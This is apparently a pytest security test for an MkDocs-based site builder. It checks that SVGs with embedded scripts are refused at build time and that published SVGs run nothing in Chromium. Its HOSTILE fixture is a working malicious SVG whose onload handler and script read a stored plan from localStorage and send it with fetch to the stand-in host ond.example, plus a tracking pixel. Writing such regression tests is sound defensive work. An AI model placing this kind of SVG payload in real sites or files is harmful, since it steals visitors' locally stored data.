"""A hostile SVG can never be published; every SVG the build does publish, opened directly in
Chromium as an attacker would link it, runs nothing and asks no other host for anything."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from vifte.mkdocs.build import build_site
from vifte.source.diagnostics import ProjectError

from .conftest import serve

HOSTILE = """<svg xmlns="http://www.w3.org/2000/svg" onload="window.top.__ran = 'onload'">
<script>document.documentElement.setAttribute('data-ran', 'script');
fetch('https://ond.example/?plan=' + encodeURIComponent(localStorage.getItem('vifte.plan')));
</script>
<image href="https://ond.example/pixel.png" width="1" height="1"/>
</svg>
"""
PLACES = {
    "theme": "theme/assets/images/ond.svg",
    "docs": "site_src/ond.svg",
    "docs symlink as png": "site_src/ond.png",
}


def _open(page, url: str) -> str | None:
    """Open an SVG as a document, with a plan stored; what its scripts did, if anything."""
    page.goto(url.rsplit("/", 1)[0] + "/")  # the origin, so the plan is in its storage
    page.evaluate("localStorage.setItem('vifte.plan', JSON.stringify({items: ['hemmelig']}))")
    page.goto(url, wait_until="networkidle")  # after onload, and after any fetch was asked for
    return page.evaluate(
        "window.__ran || (document.documentElement.getAttribute('data-ran') || null)"
    )


def test_no_hostile_svg_is_published_and_the_published_ones_run_nothing(
    project: Path, tmp_path: Path, page, watched
):
    site = tmp_path / "site"
    for place, relative in PLACES.items():
        target = project / relative
        target.parent.mkdir(parents=True, exist_ok=True)
        if place.endswith("symlink as png"):
            (project / "site_src/ond.svg").write_text(HOSTILE, encoding="utf-8")
            target.symlink_to("ond.svg")
        else:
            target.write_text(HOSTILE, encoding="utf-8")
        with pytest.raises(ProjectError):
            build_site(project / "mkdocs.yml", site, pdf=False)
        assert not site.exists(), place
        target.unlink()
        (project / "site_src/ond.svg").unlink(missing_ok=True)

    build_site(project / "mkdocs.yml", site, pdf=False)
    published = sorted(site.rglob("*.svg"))
    assert published  # the logo at least
    server, url = serve(site)
    try:
        for svg in published:
            ran = _open(page, url + svg.relative_to(site).as_posix())
            assert ran is None, svg
        assert watched.foreign == []
    finally:
        server.shutdown()

    # The same check on the file the build refused: it would have run and called another host.
    bare = tmp_path / "bare"
    bare.mkdir()
    (bare / "ond.svg").write_text(HOSTILE, encoding="utf-8")
    server, url = serve(bare)
    try:
        assert _open(page, url + "ond.svg") in ("onload", "script")
        assert any(u.startswith("https://ond.example/") for u in watched.foreign)
    finally:
        server.shutdown()
    shutil.rmtree(bare)
